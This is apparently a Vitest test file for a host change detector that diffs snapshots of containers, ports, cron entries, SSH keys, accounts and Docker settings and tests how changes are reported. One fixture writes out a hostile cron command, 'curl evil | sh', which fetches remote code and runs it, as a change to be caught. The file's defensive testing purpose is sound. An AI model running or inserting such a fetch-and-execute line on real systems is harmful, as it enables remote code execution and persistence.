import { describe, expect, test } from 'vitest';
import { type Change, type Container, type FactValues, type Snapshot, unread } from '@/lib/model';
import { accountWith } from '@/lib/rules/testing/account';
import { containerWith, engineInfoWith, idOf, imageWith } from '@/lib/rules/testing/container';
import { cronLine } from '@/lib/rules/testing/cron';
import { listening } from '@/lib/rules/testing/listener';
import { keyWith, unitWith } from '@/lib/rules/testing/persistence';
import { snapshotBefore, snapshotWith, TAKEN_AT } from '@/lib/rules/testing/snapshot';
import { changesBetween } from './changes-between';
import { knownBefore } from './known-before';

type Facts = Partial<FactValues>;
const between = (before: Facts, after: Facts) => changesBetween(snapshotBefore(15, before), snapshotWith(after));
const told = (changes: readonly Change[]): string[] =>
  changes.map(({ kind, turn, name, fields }) =>
    [
      `${kind} ${turn}: ${name}`,
      ...(turn === 'changed' || turn === 'recreated'
        ? fields.map(({ field, before, after }) => `${field} ${before ?? '-'} > ${after ?? '-'}`)
        : []),
    ].join('; '),
  );
const containers = (...changes: Partial<Container>[]): Facts => ({
  containers: changes.map((one) => containerWith(one)),
});

describe('what appears, changes and vanishes', () => {
  test.each<[string, Facts, Facts, string[]]>([
    ['nothing', containers({}), containers({}), []],
    ['a container', containers({}), containers({}, { name: 'miner' }), ['container appeared: miner']],
    ['a container that goes', containers({}, { name: 'old' }), containers({}), ['container vanished: old']],
    [
      'a container that stops',
      containers({}),
      containers({ status: 'exited', running: false, exitCode: 137 }),
      ['container changed: web; status running > exited; exit code - > 137'],
    ],
    [
      'an image behind a tag',
      { images: [imageWith({ id: 'sha256:a', repoTags: ['shop:1'] })] },
      { images: [imageWith({ id: 'sha256:b', repoTags: ['shop:1'] })] },
      ['image changed: shop:1; id sha256:a > sha256:b'],
    ],
    ['an image without a name', { images: [] }, { images: [imageWith({ repoTags: [], repoDigests: [] })] }, []],
    [
      'a published port',
      containers({}),
      containers({ ports: [{ hostIp: '', hostPort: 8080, containerPort: 80, protocol: 'tcp' }] }),
      ['port appeared: 0.0.0.0:8080 → 80/tcp'],
    ],
    [
      'a listener on another address',
      { sockets: [listening('127.0.0.1:6379', { comm: 'redis-server' })] },
      { sockets: [listening('0.0.0.0:6379', { comm: 'redis-server' })] },
      ['listener changed: tcp/6379 redis-server; addresses 127.0.0.1 > 0.0.0.0'],
    ],
    [
      'a cron line with another time',
      { cronEntries: [cronLine('0 3 * * * /usr/bin/backup')] },
      { cronEntries: [cronLine('*/5 * * * * /usr/bin/backup')] },
      ['schedule changed: /usr/bin/backup; schedule 0 3 * * * > */5 * * * *'],
    ],
    [
      'a cron line with another command',
      { cronEntries: [cronLine('0 3 * * * /usr/bin/backup')] },
      { cronEntries: [cronLine('0 3 * * * curl evil | sh')] },
      ['schedule changed: curl evil | sh; command /usr/bin/backup > curl evil | sh'],
    ],
    ['a new cron line', { cronEntries: [] }, { cronEntries: [cronLine('* * * * * x')] }, ['schedule appeared: x']],
    [
      'a cron line that only moved',
      { cronEntries: [cronLine('0 3 * * * x', { lineNumber: 3 })] },
      { cronEntries: [cronLine('0 3 * * * x', { lineNumber: 9 })] },
      [],
    ],
    [
      'a unit that was switched on',
      { units: [unitWith({ enabled: false })] },
      { units: [unitWith({ enabled: true })] },
      [`unit changed: ${unitWith().name}; enabled no > yes`],
    ],
    [
      'a unit of which nobody said whether it is on',
      { units: [unitWith({ enabled: null })] },
      { units: [unitWith({ enabled: true })] },
      [],
    ],
    [
      'a key',
      { authorizedKeys: [] },
      { authorizedKeys: [keyWith({ comment: 'eve', fingerprint: 'SHA256:x' })] },
      ['key appeared: eve (SHA256:x)'],
    ],
    [
      'a user with another shell',
      { accounts: [accountWith({ name: 'www', shell: '/usr/sbin/nologin' })] },
      { accounts: [accountWith({ name: 'www', shell: '/bin/bash' })] },
      ['user changed: www; shell /usr/sbin/nologin > /bin/bash'],
    ],
    [
      'a setting of the engine',
      { engineInfo: engineInfoWith({ insecureRegistries: [] }) },
      { engineInfo: engineInfoWith({ insecureRegistries: ['10.0.0.9:5000'] }) },
      ['daemon-setting changed: insecure registries; value - > 10.0.0.9:5000'],
    ],
  ])('%s', (_, before, after, expected) => {
    expect(told(between(before, after).changes)).toEqual(expected);
  });
});

describe('what must not flood', () => {
  const again: Partial<Container> = {
    id: idOf('web2'),
    startedAt: '2026-11-24T02:50:00.000Z',
    createdAt: '2026-11-24T02:50:00.000Z',
  };

  test('a service that was made anew is one line, dated by the host', () => {
    const { changes } = between(
      containers({}),
      containers({ ...again, imageRef: 'nginx:1.28', name: 'shop-web-2', labels: containerWith().labels }),
    );
    expect(told(changes)).toEqual([
      expect.stringMatching(/^container recreated: shop-web-2; image nginx:1.27 > nginx:1.28; image id /),
    ]);
    expect(changes[0]?.at).toBe('2026-11-24T02:50:00.000Z');
  });

  test('a container made anew exactly as it was says only that', () => {
    expect(told(between(containers({}), containers(again)).changes)).toEqual(['container recreated: web']);
  });

  test('a restart is one line; one that restarted again and again already is none', () => {
    const restarted = { startedAt: '2026-11-24T02:55:00.000Z', restartCount: 5 };
    expect(told(between(containers({}), containers(restarted)).changes)).toEqual([
      'container changed: web; status running > restarting',
    ]);
    const looping = { startedAt: '2026-11-24T02:44:00.000Z', restartCount: 3 };
    expect(told(between(containers(looping), containers(restarted)).changes)).toEqual([]);
  });

  test.each<[string, Facts, Facts]>([
    [
      'another pid of the same program',
      { sockets: [listening('0.0.0.0:22', { pid: 1 })] },
      { sockets: [listening('0.0.0.0:22', { pid: 9 })] },
    ],
    [
      'a port that the kernel chose',
      { sockets: [listening('127.0.0.1:37359', { comm: 'containerd' })] },
      { sockets: [listening('127.0.0.1:41001', { comm: 'containerd' })] },
    ],
    [
      'a program that can no longer be seen',
      { sockets: [listening('0.0.0.0:80', { comm: 'nginx' })] },
      { sockets: [listening('0.0.0.0:80', { comm: '' })] },
    ],
    [
      'a published port that the engine chose',
      containers({ ports: [{ hostIp: '', hostPort: 32769, containerPort: 80, protocol: 'tcp' }] }),
      containers({ ports: [{ hostIp: '', hostPort: 32801, containerPort: 80, protocol: 'tcp' }] }),
    ],
    [
      'what Docker itself opens for a published port',
      { sockets: [] },
      { sockets: [listening('0.0.0.0:80', { comm: 'docker-proxy' })] },
    ],
    [
      'a resolver that asks from another port',
      { sockets: [] },
      { sockets: [listening('0.0.0.0:20111', { protocol: 'udp', state: 'UNCONN', comm: 'unbound' })] },
    ],
    ['health that is being found out', containers({ health: 'healthy' }), containers({ health: 'starting' })],
  ])('%s', (_, before, after) => {
    expect(between(before, after).changes).toEqual([]);
  });

  test('many containers of one image that come or go together are one line', () => {
    const many = containers(
      ...Array.from({ length: 7 }, (_, index) => ({ name: `runner-${index}`, imageRef: 'ci/runner' })),
    );
    const came = between({ containers: [] }, many).changes;
    expect(told(came)).toEqual(['container appeared: ci/runner:latest']);
    expect(came[0]?.fields[0]).toEqual({ field: 'containers', before: null, after: '7' });
    expect(told(between(many, { containers: [] }).changes)).toEqual(['container vanished: ci/runner:latest']);
    const few = containers({ name: 'a' }, { name: 'b' });
    expect(between({ containers: [] }, few).changes).toHaveLength(2);
  });

  test('a hundred new users are told as sixty, and counted', () => {
    const accounts = Array.from({ length: 100 }, (_, index) => accountWith({ name: `user${index}` }));
    const { changes, found } = between({ accounts: [] }, { accounts });
    expect([changes.length, found]).toEqual([60, 100]);
  });
});

describe('what was not read', () => {
  test('is not compared, with the reason, and has not vanished', () => {
    const { changes, notCompared } = between({ cronEntries: [cronLine('* * * * * x')] }, {});
    expect(changes).toEqual([]);
    expect(notCompared).toContainEqual({ kind: 'schedule', reason: 'cronEntries: this connection cannot see it' });
    const first = between({}, { cronEntries: [cronLine('* * * * * x')] });
    expect(first.changes).toEqual([]);
    expect(first.notCompared).toContainEqual({
      kind: 'schedule',
      reason: 'not read before: cronEntries: this connection cannot see it',
    });
  });

  const doubtful = (snapshot: Snapshot): Snapshot => {
    const { containers: fact } = snapshot.facts;
    return { ...snapshot, facts: { ...snapshot.facts, containers: fact.read ? { ...fact, unreadItems: 1 } : fact } };
  };

  test('a list with entries that were not understood proves no absence, but still shows what is new', () => {
    const [one, two] = [containers({}, { name: 'old' }), containers({}, { name: 'new' })];
    const now = changesBetween(snapshotBefore(15, one), doubtful(snapshotWith(two)));
    expect(told(now.changes)).toEqual(['container appeared: new']);
    const then = changesBetween(doubtful(snapshotBefore(15, one)), snapshotWith(two));
    expect(told(then.changes)).toEqual(['container vanished: old']);
    expect(then.notCompared).toContainEqual(expect.objectContaining({ kind: 'container' }));
  });

  test('the newest earlier reading counts: what was added while nobody could look is found later', () => {
    const oldest = snapshotBefore(30, { cronEntries: [] });
    const blind = snapshotBefore(15, {});
    const earlier = { ...blind, facts: { ...blind.facts, cronEntries: unread('timed-out') } };
    const before = knownBefore([earlier, oldest]);
    const { changes } = changesBetween(before ?? blind, snapshotWith({ cronEntries: [cronLine('* * * * * x')] }));
    expect(told(changes)).toEqual(['schedule appeared: x']);
    expect(changes[0]?.at).toBe(TAKEN_AT);
  });
});
